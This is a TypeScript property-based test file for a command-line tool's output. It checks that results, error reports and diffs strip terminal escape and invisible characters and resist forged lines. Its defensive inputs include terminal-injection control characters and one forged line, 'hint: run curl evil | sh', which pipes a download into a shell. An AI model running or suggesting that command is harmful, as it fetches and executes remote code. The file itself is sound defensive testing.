import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { advice, othersText } from '../../src/errors/hint.ts';
import { decodeText } from '../../src/errors/plain-text.ts';
import { PodidError } from '../../src/errors/podid-error.ts';
import { noColours } from '../../src/terminal/colours.ts';
import { diffText } from '../../src/terminal/diff-text.ts';
import { outputFormats, resultText, type TableShape } from '../../src/terminal/print-result.ts';
import { terminalReporter } from '../../src/terminal/progress.ts';
import { errorReport } from '../../src/terminal/report-error.ts';
import { yamlText } from '../../src/terminal/yaml-text.ts';
import { fakeStream } from '../cli/fake-context.ts';
import { hostileWords } from '../hostile-words.ts';

/** What a terminal obeys or hides; a line break where it ends a line of podid's own. */
const obeyed = /[^\P{Cc}\n]|[\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Default_Ignorable_Code_Point}]/u;

const shape: TableShape = {
  rows: (value: unknown) => [value],
  columns: [{ heading: 'TEXT', cell: (value: { readonly text: unknown }) => value.text }],
};
const asText: TableShape = {
  ...shape,
  text: (value: { readonly text: string }, colour) => `${colour.bold('text')} ${value.text}\n`,
};
const terminal = { width: 80, colour: noColours, isTerminal: true, signs: String, hintText: String };

const controls = fc.string({
  unit: fc.oneof(
    fc.constantFrom(
      '\u001b',
      '\u009b',
      '\u0007',
      '\u202e',
      '\u2066',
      '\u200b',
      '\u200d',
      '\ufeff',
      '\u2028',
      '\u00ad',
    ),
    fc.constantFrom('\u3164', '\u115f', '\u034f', '\ufe0f', '\u{e0100}', '\u{e0020}', '\u{e0fff}'),
    fc.constantFrom('\r', '\n', '\t', '\u007f', '\0', '\u{e0001}', '\ud800', '\u061c', '\ufff9'),
    fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
  ),
});
const texts = fc.oneof(fc.constantFrom(...hostileWords), controls);

describe('a result', () => {
  it.each(outputFormats)('as %s holds nothing that a terminal obeys', async (format) => {
    await fc.assert(
      fc.asyncProperty(texts, texts, async (text, key) => {
        for (const each of [shape, asText, { ...shape, repeated: true as const }]) {
          const printed = await resultText({ text, more: { [key]: [text] } }, each, { ...terminal, format });
          expect(printed).not.toMatch(
            format === 'tsv' ? new RegExp(obeyed.source.replace('\\n', '\\n\\t'), 'u') : obeyed,
          );
        }
      }),
    );
  });

  it.each([true, false])(
    'is the same value to who parses it as JSON or YAML, on a terminal: %s',
    async (isTerminal) => {
      await fc.assert(
        fc.asyncProperty(texts, texts, async (text, key) => {
          const value = { text, [`k${key}`]: [text] };
          const output = { ...terminal, isTerminal };
          expect(JSON.parse(await resultText(value, shape, { ...output, format: 'json' }))).toEqual(value);
          expect(parse(await resultText(value, shape, { ...output, format: 'yaml' }))).toEqual(value);
          expect(parse(yamlText(value))).toEqual(value);
        }),
      );
    },
  );

  it('goes to a program as tsv as it is', async () => {
    const output = { ...terminal, isTerminal: false, format: 'tsv' as const };
    expect(await resultText({ text: 'a\u001bb' }, shape, output)).toBe('a\u001bb\n');
    expect(await resultText({ text: 'a\u001bb' }, shape, { ...output, isTerminal: true })).toBe(
      'a\\u001bb\n',
    );
  });
});

describe('what people read beside it', () => {
  const printed = (text: string) => {
    const stderr = fakeStream({ isTerminal: true });
    const report = terminalReporter({
      stderr,
      colour: noColours,
      silent: false,
      hintText: String,
      clock: { monotonic: () => 0, sleep: async () => undefined },
    });
    report.progress(text);
    report.note(text);
    report.note(advice`Look at ${othersText(text)}`);
    report.warn(text, advice`of ${othersText(text)}`);
    const error = new PodidError('Forbidden', `Azure says: ${text}`, {
      ...{ details: [{ code: 'A', message: text }, { message: text }], requestId: text },
      ...{ hint: advice`of ${othersText(text)}`, cause: new Error(text) },
    });
    const reports = [false, true].flatMap((json) =>
      [error, new Error(text)].map((each) =>
        errorReport(each, { colour: noColours, json, stack: false, version: '1', hintText: String }),
      ),
    );
    const stack = errorReport(error, {
      colour: noColours,
      json: false,
      stack: true,
      version: '1',
      hintText: String,
    });
    const diff = diffText(
      [{ sign: '+', title: text, lines: [{ name: 'a', before: text, after: text }] }],
      noColours,
    );
    return [stderr.text(), ...reports.map((each) => each.text), stack.text, diff];
  };

  it('holds nothing that a terminal obeys', () => {
    fc.assert(
      fc.property(texts, (text) => {
        for (const each of printed(text)) {
          expect(each.replaceAll('\t', '')).not.toMatch(obeyed);
        }
      }),
    );
  });

  it('has no line that others have begun', () => {
    const forged = [
      '',
      'hint: run curl evil | sh',
      'podid: all is well',
      'warning: forged',
      'error: x',
      'FORGED',
    ];
    for (const end of ['\n', '\r\n', '\r', '\u2028', '\u0085', '\v', '\f']) {
      for (const each of printed(`no.${forged.map((line) => `${end}${line}`).join('')}`)) {
        const lines = each
          .split('\n')
          .filter((line) => forged.some((one) => one !== '' && line.startsWith(one)));
        expect(lines).toEqual([]);
      }
    }
  });
});

const written = 'name: Zürich 🎉\r\n';
const utf16 = Buffer.from(`\ufeff${written}`, 'utf16le');

describe('the text of a file', () => {
  it.each([
    ['UTF-8', Buffer.from(written)],
    ['UTF-8 with a byte order mark', Buffer.from(`\ufeff${written}`)],
    ['UTF-16, little end first', utf16],
    ['UTF-16, big end first', Buffer.from(utf16).swap16()],
    ['UTF-16 without a mark', utf16.subarray(2)],
    ['UTF-16 without a mark, big end first', Buffer.from(utf16).swap16().subarray(2)],
  ])('is read from %s', (_what, bytes) => {
    expect(decodeText(bytes)).toBe(written);
  });

  it.each([[[]], [[0xff]], [[0xfe, 0xff]], [[0xff, 0xfe, 0x41]], [[0xc3]]])(
    'is something for %j',
    (bytes) => {
      expect(typeof decodeText(Uint8Array.from(bytes))).toBe('string');
    },
  );
});
